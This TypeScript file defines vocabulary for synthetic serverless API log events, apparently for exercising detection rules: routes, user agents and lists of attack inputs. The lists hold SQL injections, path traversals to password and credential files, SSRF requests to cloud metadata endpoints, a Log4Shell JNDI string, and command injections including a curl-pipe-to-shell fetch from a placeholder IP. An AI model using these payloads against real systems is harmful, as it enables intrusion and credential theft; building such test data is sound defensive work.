/**
 * Vocabulary of the Lambda-hosted HTTP APIs the synthetic events come from, and of the attacks
 * aimed at them. Rules draw from the same lists, so some rules meet their values in events.
 */

export interface Route {
  readonly method: string;
  /** `{id}` is replaced by a number, `{word}` by a search word. */
  readonly path: string;
  readonly queries: readonly string[];
}

export interface FunctionProfile {
  readonly name: string;
  readonly memoryMb: number;
  readonly routes: readonly Route[];
}

export const FUNCTIONS: readonly FunctionProfile[] = [
  {
    name: 'orders-api',
    memoryMb: 512,
    routes: [
      { method: 'GET', path: '/orders', queries: ['page={id}&limit=50', 'status=open', ''] },
      { method: 'GET', path: '/orders/{id}', queries: [''] },
      { method: 'POST', path: '/orders', queries: [''] },
      { method: 'GET', path: '/orders/{id}/items', queries: ['expand=product', ''] },
      { method: 'DELETE', path: '/orders/{id}', queries: [''] },
    ],
  },
  {
    name: 'users-api',
    memoryMb: 256,
    routes: [
      { method: 'POST', path: '/login', queries: [''] },
      { method: 'POST', path: '/logout', queries: [''] },
      { method: 'GET', path: '/users/{id}', queries: ['fields=name,email', ''] },
      { method: 'PUT', path: '/users/{id}/profile', queries: [''] },
      { method: 'GET', path: '/sessions', queries: ['active=true'] },
    ],
  },
  {
    name: 'catalog-search',
    memoryMb: 1024,
    routes: [
      { method: 'GET', path: '/products', queries: ['category={word}&page={id}', 'sort=price_asc'] },
      { method: 'GET', path: '/products/{id}', queries: [''] },
      { method: 'GET', path: '/search', queries: ['q={word}', 'q={word}&page={id}', 'q={word}+{word}'] },
    ],
  },
  {
    name: 'payments-webhook',
    memoryMb: 256,
    routes: [
      { method: 'POST', path: '/webhooks/stripe', queries: [''] },
      { method: 'POST', path: '/payments', queries: [''] },
      { method: 'POST', path: '/payments/{id}/refund', queries: ['reason=requested_by_customer'] },
    ],
  },
  {
    name: 'image-resizer',
    memoryMb: 2048,
    routes: [{ method: 'GET', path: '/images/{id}.jpg', queries: ['w=320&h=240', 'w=1280', 'format=webp&q=80'] }],
  },
  {
    name: 'report-exporter',
    memoryMb: 1536,
    routes: [
      { method: 'GET', path: '/reports/{id}/export', queries: ['format=csv', 'format=pdf&tz=Europe/Paris'] },
      { method: 'GET', path: '/download', queries: ['file=report-{id}.csv'] },
    ],
  },
];

export const SEARCH_WORDS = ['shoes', 'laptop', 'coffee', 'garden', 'lamp', 'jacket', 'kettle', 'monitor', 'headphones', 'desk', 'bike', 'tent'] as const;

export const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'ShopApp/4.2.1 (iOS 17.4; iPhone15,2)',
  'ShopApp/4.2.0 (Android 14; Pixel 8)',
  'okhttp/4.12.0',
  'axios/1.6.8',
  'python-requests/2.31.0',
  'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
  'Amazon CloudFront',
  'ELB-HealthChecker/2.0',
] as const;

export const SCANNER_USER_AGENTS = [
  'sqlmap/1.7.12#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 zgrab/0.x',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
  'gobuster/3.6',
  'Fuzz Faster U Fool v2.1.0-dev',
  '${jndi:ldap://198.51.100.66:1389/Exploit}',
] as const;

export const SQL_INJECTIONS = [
  "id=1' OR '1'='1",
  'id=1 UNION SELECT username,password FROM users--',
  "q=shoes' AND SLEEP(5)--",
  'id=1;DROP TABLE orders',
  "name=admin'--",
  'id=1%27%20OR%201%3D1--',
  'sort=(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)',
  'q=1 UNION ALL SELECT NULL,table_name FROM information_schema.tables',
] as const;

export const PATH_TRAVERSALS = [
  '/download/../../../../etc/passwd',
  '/images/..%2f..%2f..%2fetc%2fshadow',
  '/static/%2e%2e/%2e%2e/proc/self/environ',
  '/reports/..\\..\\..\\windows\\win.ini',
] as const;

export const TRAVERSAL_QUERIES = ['file=../../../../etc/passwd', 'file=..%2F..%2F..%2Fvar%2Ftask%2F.env', 'template=....//....//etc/hosts'] as const;

export const SSRF_QUERIES = [
  'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'webhook=http://169.254.169.254/latest/api/token',
  'callback=http://[fd00:ec2::254]/latest/meta-data/',
  'img=http://127.0.0.1:2375/containers/json',
] as const;

export const PROBED_PATHS = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/actuator/env',
  '/server-status',
  '/cgi-bin/luci/;stok=/locale',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/.aws/credentials',
  '/admin/config.php',
] as const;

export const COMMAND_INJECTIONS = ['host=example.com;cat /etc/passwd', 'cmd=$(curl -s http://203.0.113.9/x.sh|sh)', 'name=`id`'] as const;

/** Ordinary application messages, some with `{id}` / `{ms}` placeholders. */
export const APP_MESSAGES = [
  'order accepted id={id}',
  'cache miss for product {id}',
  'fetched {id} rows from dynamodb in {ms}ms',
  'payment intent created pi_{id}',
  'user {id} logged in',
  'rendered thumbnail {id} in {ms}ms',
  'retrying downstream call attempt=2',
  'feature flag new-checkout=on for user {id}',
  'export job {id} queued',
  'token refreshed for session {id}',
] as const;

export const APP_ERRORS = [
  { type: 'TimeoutError', message: 'Connection timed out after {ms}ms' },
  { type: 'ValidationError', message: 'body.quantity must be a positive integer' },
  { type: 'ConditionalCheckFailedException', message: 'The conditional request failed' },
  { type: 'TypeError', message: "Cannot read properties of undefined (reading 'id')" },
  { type: 'ProvisionedThroughputExceededException', message: 'Rate of requests exceeds the allowed throughput' },
] as const;

export const LEAKED_SECRET_MESSAGES = [
  'loaded config AWS_ACCESS_KEY_ID={akia} region=eu-west-1',
  'debug: credentials {akia}:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
] as const;
